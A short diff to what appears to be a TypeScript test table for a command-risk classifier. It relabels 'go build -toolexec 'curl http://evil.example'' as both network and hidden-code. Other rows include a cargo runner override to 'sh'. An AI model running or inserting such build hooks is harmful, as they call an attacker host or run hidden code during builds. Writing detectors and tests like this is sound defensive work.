@@ -18,7 +18,7 @@ const ROWS: readonly (readonly [command: string, kinds: string])[] = [
   ["cargo --config 'target.x.runner=\"sh\"' build", "hidden-code"],
   ["rustup update", "network"],
   ["go test ./...", ""],
-  ["go build -toolexec 'curl http://evil.example' ./...", "network"],
+  ["go build -toolexec 'curl http://evil.example' ./...", "network hidden-code"],
   ["go get x", "network"],
   ["go install ./cmd/x", ""],
   ["go install golang.org/x/tools/gopls@latest", "network"],
